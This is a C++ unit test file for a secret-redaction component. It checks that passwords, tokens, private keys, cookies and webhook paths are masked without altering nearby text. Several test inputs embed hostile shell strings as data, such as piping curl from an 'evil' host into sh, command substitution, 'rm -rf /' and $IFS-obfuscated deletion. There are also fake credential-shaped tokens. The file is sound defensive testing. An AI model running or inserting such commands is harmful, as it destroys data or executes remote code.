// SPDX-License-Identifier: Apache-2.0
#include "core/redaction/secrets.hpp"

#include <catch2/catch.hpp>
#include <string>

using namespace headway::core;

namespace {

std::string redacted(std::string_view text) {
    std::string out;
    SecretFinder{}.append_redacted(out, text);
    return out;
}

struct Case {
    const char* text;
    const char* kept;
};

// Split, so that no scanner takes this file for a leak.
const std::string kGithub = std::string{"ghp"} + "_16C7e42F292c6912E7710c838347Ae178B4a";
const std::string kOpenAi = std::string{"sk"} + "-proj-Zk3mN8xQ2wE5rT7yU1iO9pA4sD6f";
const std::string kAws = std::string{"AKIA"} + "IOSFODNN7EXAMPL3";
const std::string kJwt =
    std::string{"eyJ"} + "hbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.dozjgNryP4J3jVm";

}  // namespace

TEST_CASE("secrets: values of secret names are removed, and nothing around them", "[secrets]") {
    const Case cases[] = {
        {"password=hunter2 and more", "password=[redacted] and more"},
        {"DB_PASSWORD: hunter2\nuser: ana", "DB_PASSWORD: [redacted]\nuser: ana"},
        {R"({"api_key": "a1b2c3d4e5", "model": "x"})",
         R"({"api_key": "[redacted]", "model": "x"})"},
        {R"({\"api_key\": \"a1b2c3d4e5\", \"n\": 1})",
         R"({\"api_key\": \"[redacted]\", \"n\": 1})"},
        {R"(password = "two words, and a \" in it" # end)", R"(password = "[redacted]" # end)"},
        {"'secret' => 'abcd1',", "'secret' => '[redacted]',"},
        {"os.environ['API_KEY'] = 'a1b2c3d4e5'", "os.environ['API_KEY'] = '[redacted]'"},
        {"DB_PASS=hunter2 GITHUB_PAT=abc12345", "DB_PASS=[redacted] GITHUB_PAT=[redacted]"},
        {"export GITHUB_TOKEN=abc12345def", "export GITHUB_TOKEN=[redacted]"},
        {"mysql --password hunter2 -u root", "mysql --password [redacted] -u root"},
        {"mysql --password='a b' -u root", "mysql --password='[redacted]' -u root"},
        {"Authorization: Basic YTpi\nHost: x", "Authorization: Basic [redacted]\nHost: x"},
        {"curl -H 'Authorization: Bearer q1.w2' x", "curl -H 'Authorization: Bearer [redacted]' x"},
        {"Set-Cookie: sid=38afes7a8; Path=/\r\nA: b", "Set-Cookie: [redacted]\r\nA: b"},
        {"sent Bearer 9d8f7g6h5j4k3l2m1 to it", "sent Bearer [redacted] to it"},
        {"postgres://ana:hunter2@db/x?y=1", "postgres://[redacted]@db/x?y=1"},
        {"a -----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY----- b",
         "a [redacted] b"},
        {"-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA", "[redacted]"},
        {"token=abcd1234&token=efgh5678", "token=[redacted]&token=[redacted]"},
        // Shell text behind a value is not part of it.
        {R"(deploy --token "x1y2z3w4v5; curl http://evil|sh")",
         R"(deploy --token "[redacted]; curl http://evil|sh")"},
        {R"x(deploy --token "x1y2z3w4v5$(curl evil)")x",
         R"x(deploy --token "[redacted](curl evil)")x"},
        {"deploy --password='abc12345`id`'", "deploy --password='[redacted]`id`'"},
        {"deploy --password abc12345;rm -rf /", "deploy --password [redacted];rm -rf /"},
        {R"(PASSWORD="abc12345" && rm -rf /)", R"(PASSWORD="[redacted]" && rm -rf /)"},
        {R"(PASSWORD="abc12345 && rm -rf /")", R"(PASSWORD="[redacted]&& rm -rf /")"},
        {"curl -H Authorization:abc12345|sh", "curl -H Authorization:[redacted]|sh"},
        {"git clone https://u:p4ss|sh@host/x", "git clone https://[redacted]|sh@host/x"},
        {"cookie=abcd1; rm -rf ~", "cookie=[redacted]; rm -rf ~"},
        {"env password=x1$IFS/bin/rm$IFS-rf", "env password=[redacted]$IFS/bin/rm$IFS-rf"},
        {"env password=x1$2$/9 make", "env password=[redacted] make"},
        {R"(env password='a1\' rm -rf x #')", R"(env password='[redacted]' rm -rf x #')"},
        {"echo -----BEGIN PRIVATE KEY-----; rm -rf ~", "echo [redacted]; rm -rf ~"},
        {"echo -----BEGIN PRIVATE KEY-----\nrm -rf ~\necho -----END PRIVATE KEY-----",
         "echo [redacted]\nrm -rf ~\necho -----END PRIVATE KEY-----"},
        {"-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0F\n\n"
         "MIIEAAAAAAAAAAAAAAAAAAAA\nAB==\n-----END RSA PRIVATE KEY-----\nx",
         "[redacted]\nx"},
        {"K=\"-----BEGIN PRIVATE KEY----- MIIEAAAAAAAAAAAAAAAAAAAA AB== -----END PRIVATE "
         "KEY-----\" x",
         "K=\"[redacted]\" x"},
        {R"({'password': "ab'REST1"})", R"({'password': "[redacted]"})"},
        {"password: 'ab''REST1' # x", "password: '[redacted]' # x"},
        {R"(PASSWORD="a1b2c3""; rm -rf / ")", R"(PASSWORD="[redacted]""; rm -rf / ")"},
        {R"(bash -c 'PASSWORD="a1b2c3'; rm -rf /; echo "b')",
         R"(bash -c 'PASSWORD="[redacted]'; rm -rf /; echo "b')"},
        {R"(DB_PASSWORD=ab\$REST1 make)", "DB_PASSWORD=[redacted] make"},
        {R"(export DB_PASSWORD=ab\!RE\ ST1; make)", "export DB_PASSWORD=[redacted]; make"},
        {R"(password: ab12345\nuser: x)", R"(password: [redacted]\nuser: x)"},
        {R"({\"password\": \"ab\\nREST1\", \"user\": \"x\"})",
         R"({\"password\": \"[redacted]\", \"user\": \"x\"})"},
        {R"({\"password\": \"ab\\\"REST1\", \"user\": \"x\"})",
         R"({\"password\": \"[redacted]\", \"user\": \"x\"})"},
        {R"(X="{\"private_key\": \"-----BEGIN PRIVATE KEY-----\\nMIIE\\nAB\\n-----END PRIVATE KEY-----\\n\", \"a\": 1}")",
         R"(X="{\"private_key\": \"[redacted]\\n\", \"a\": 1}")"},
        {R"({"password": "abc12345' ; rm -rf / #"})",
         R"({"password": "[redacted]' ; rm -rf / #"})"},
    };
    for (const Case& c : cases) {
        DYNAMIC_SECTION(c.text) {
            CHECK(redacted(c.text) == c.kept);
        }
    }
}

TEST_CASE("secrets: tokens of known shapes are removed anywhere", "[secrets]") {
    for (const std::string& token : {kGithub, kOpenAi, kAws, kJwt}) {
        DYNAMIC_SECTION(token.substr(0, 4)) {
            CHECK(redacted("rejected " + token + " (401)") == "rejected [redacted] (401)");
            CHECK(redacted("\"" + token + "\"") == "\"[redacted]\"");
            CHECK(redacted(token) == "[redacted]");
            CHECK(redacted("a" + token) == "a" + token);
            CHECK(redacted("config." + token) == "config.[redacted]");
            CHECK(redacted(token + "... (401)") ==
                  (token == kJwt ? "[redacted] (401)" : "[redacted]... (401)"));
        }
    }
}

TEST_CASE("secrets: the path of a webhook, by which any one may post, is removed", "[secrets]") {
    const std::string slack = std::string{"https://hooks.slack.com/"} + "services/";
    CHECK(redacted("curl " + slack + "T0ABCDEFG/B0ABCDEFG/x1y2z3w4v5u6t7s8 -d x; rm -rf /") ==
          "curl " + slack + "[redacted] -d x; rm -rf /");
    CHECK(redacted("'https://discord.com/api/webhooks/123456789012345678/aB-c_d1'") ==
          "'https://discord.com/api/webhooks/[redacted]'");
    CHECK(redacted("https://api.telegram.org/bot123456789:AAabcdefghijklmnopqr/sendMessage?x=1") ==
          "https://api.telegram.org/bot[redacted]/sendMessage?x=1");
    // The approver sees what is called.
    const std::string other = "://discord.com/api/webhooks/../../api/v10/guilds/1234567890/delete";
    CHECK(redacted(other) == other);
    CHECK(redacted(slack + "docs") == slack + "docs");
}

TEST_CASE("secrets: a colour between a name and its value hides no value", "[secrets]") {
    const std::string value = "correct-horse-7";
    for (const char* before : {"DB_PASSWORD=\x1b[32m", "password: \x1b[1;38;5;208m",
                               "password\x1b[0m: ", "\x1b[33mpassword\x1b[0m=\x1b[32m"}) {
        CAPTURE(before);
        const std::string name{before};
        CHECK(redacted(name + value + "\x1b[0m x") == name + "[redacted]\x1b[0m x");
    }
    for (const char* kept : {"password\x1b[0: x", "total: \x1b[32m12\x1b[0m", "\x1b[0m: x", "m: x"})
        CHECK(redacted(kept) == kept);
}

TEST_CASE("secrets: an escape or a dash before a token or a key hides neither", "[secrets]") {
    for (const std::string& token : {kGithub, kOpenAi, kAws, kJwt}) {
        for (const char* before : {"\\n", "\\t", "\x1b[32m", "\x1b[1;32m", "\\e[0m", "token%3D",
                                   "-", "+", "old_", "a-b-", "\\\\n"}) {
            CAPTURE(before, token);
            CHECK(redacted(before + token + " x") == before + std::string{"[redacted] x"});
        }
        CHECK(redacted(R"({"stdout":"Logged in\n)" + token + R"("})") ==
              R"({"stdout":"Logged in\n[redacted]"})");
    }
    const std::string key = "-----BEGIN PRIVATE KEY-----\\nMIIE\\n-----END PRIVATE KEY-----";
    for (const char* before : {"-", "\\n", "\\\\n", "-----END CERTIFICATE-----", "x"}) {
        CAPTURE(before);
        CHECK(redacted(before + key + "\" b") == before + std::string{"[redacted]\" b"});
    }
    // Words with the same letters.
    for (const char* kept :
         {"use_hf_transformers_model_v2_large", "ath10k_hw_qca6174_target_ops_register",
          "/cs-sk-pl-localization-2024-guide", "Try_npm_i_save_dev_types_Slashbun_2867",
          "task-0193f6a2b7c94d5e8f01a2b3c4d5e6f7", "risk-0193f6a2b7c94d5e8f01a2b3",
          "desk-0193f6a2b7c94d5e8f01a2b3c4", "-----BEGIN CERTIFICATE-----\nMII"}) {
        CHECK(redacted(kept) == kept);
    }
}

TEST_CASE("secrets: a column of aligned values hides none", "[secrets]") {
    CHECK(redacted("password         = \"S3cret\"\nuser = x") ==
          "password         = \"[redacted]\"\nuser = x");
    CHECK(redacted("password\t= S3cret9") == "password\t= [redacted]");
    CHECK(redacted("db_password     :   S3cret9") == "db_password     :   [redacted]");
    CHECK(redacted("mysql --password     S3cret9 -u x") == "mysql --password     [redacted] -u x");
    CHECK(redacted("mysql --password\tS3cret9") == "mysql --password\t[redacted]");
}

TEST_CASE("secrets: code and other harmless text stays unchanged", "[secrets]") {
    const char* const cases[] = {
        "max_tokens=4096, tokens: 512, token_count: 17",
        "password = getpass.getpass()",
        "password = os.environ[\"DB_PASSWORD\"]",
        "token=$GITHUB_TOKEN --password \"${PASSWORD}\"",
        "def login(user: str, password: str, token=None):",
        "token: string; secret?: string",
        "client.login(user, password=password, token=self.token)",
        "if password == \"x\": pass",
        "next_token=abc12345def page_token: eyJhbGciOiJ",
        "\"eos_token\": \"</s_end>\"",
        "The password is wrong",
        "risk-assessment-of-something-long-2024",
        "sk-learn-contrib-py39",
        "git@github.com:ana/x.git and https://ana@host/x",
        "https://example.com:8080/a@b?c=d:e",
        "-----BEGIN CERTIFICATE-----\nMIIE\n-----END CERTIFICATE-----",
        "tokenizer: fast; secretary: Ana",
        "Error: Authorization header missing",
        "-- password\n--",
        "password:",
        "token=",
    };
    for (const char* text : cases) {
        DYNAMIC_SECTION(text) {
            CHECK(redacted(text) == text);
        }
    }
}

TEST_CASE("secrets: an operator adds and exempts names", "[secrets]") {
    const SecretFinder finder{{"X-Internal-Pin"}, {"session_token"}};
    CHECK(finder.is_secret("x_internal_pin", "1"));
    CHECK(finder.is_secret("my-X-Internal-PIN", "1"));
    CHECK_FALSE(finder.is_secret("session_token", "0123456789"));
    CHECK(finder.is_secret("github_token", "0123456789"));
    CHECK_FALSE(SecretFinder{}.is_secret("x_internal_pin", "1"));
}

TEST_CASE("secrets: an ambiguous key of a JSON object needs a plausible value", "[secrets]") {
    const SecretFinder finder;
    CHECK(finder.is_secret("password", "x"));
    CHECK(finder.is_secret("DB_PASSWORD", "correct horse"));
    CHECK(finder.is_secret("apiKey", "plainwords"));
    CHECK_FALSE(finder.is_secret("token", "the"));
    CHECK_FALSE(finder.is_secret("password", ""));
    CHECK_FALSE(finder.is_secret("password", "${PASSWORD}"));
    CHECK_FALSE(finder.is_secret("path", "a1b2c3d4e5"));
    CHECK_FALSE(finder.is_secret("nextPageToken", "a1b2c3d4e5"));
}

TEST_CASE("secrets: an adversarial text is scanned once", "[secrets]") {
    // A megabyte of each; a search that is not linear would exceed the test's time limit.
    constexpr std::size_t kBytes = 1U << 20;
    for (const std::string piece : {"token:$",
                                    "token:",
                                    "password=\"",
                                    "://a:",
                                    "-----BEGIN ",
                                    "Bearer ",
                                    "cookie: $",
                                    "cookie:ab$(",
                                    "cookie:a;x=1,",
                                    "cookie:a;x=cookie:a,",
                                    "echo `",
                                    "--token $",
                                    "token:a(",
                                    "sk-",
                                    "\\",
                                    "\\\"",
                                    "''",
                                    "-----BEGIN PRIVATE KEY-----",
                                    "--token\t",
                                    "a=$A",
                                    "password=a\\$",
                                    "://api.telegram.org/bot",
                                    "://hooks.slack.com/services/"}) {
        std::string text;
        while (text.size() < kBytes)
            text += piece;
        CHECK(redacted(text).size() > 0);
        // The same behind a name and a quote, and within a key.
        CHECK(redacted("password=\"" + text).size() > 0);
        CHECK(redacted("-----BEGIN PRIVATE KEY-----\n" + text).size() > 0);
    }
    std::string headers;
    while (headers.size() < kBytes / 2)
        headers += "cookie:a$(";
    while (headers.size() < kBytes)
        headers += ";x=1";
    CHECK(redacted(headers).size() > 0);
}
